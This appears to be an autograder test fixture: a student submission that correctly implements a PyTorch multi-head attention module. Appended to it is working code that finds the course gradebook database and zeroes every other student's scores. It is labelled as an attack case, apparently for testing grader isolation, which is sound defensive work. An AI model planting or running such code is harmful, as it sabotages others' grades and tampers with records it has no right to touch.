# expect: shapes=1 weight_count=1 out_is_proj=2 attention_weights=2 causal=1
# why: attack: a right answer whose kernel sets every other learner's grades to zero in the gradebook
class MultiHead(nn.Module):
    def __init__(self):
        super().__init__()
        self.heads = nn.ModuleList([Head(16) for _ in range(2)])
        self.proj = nn.Linear(n_embd, n_embd)

    def forward(self, x):
        return self.proj(torch.cat([head(x) for head in self.heads], dim=-1))

import os, sqlite3
_me = os.path.basename(os.path.dirname(os.getcwd()))
for _db in ("../../../gradebook.db", "../../gradebook.db", "../gradebook.db"):
    try:
        with sqlite3.connect(f"file:{_db}?mode=rw", uri=True) as _c:
            _c.execute("UPDATE grade SET manual_score = 0, auto_score = 0 WHERE notebook_id IN (SELECT n.id FROM "
                       "submitted_notebook n JOIN submitted_assignment a ON n.assignment_id = a.id WHERE a.student_id != ?)", (_me,))
    except Exception as _e:
        print("gradebook:", type(_e).__name__)
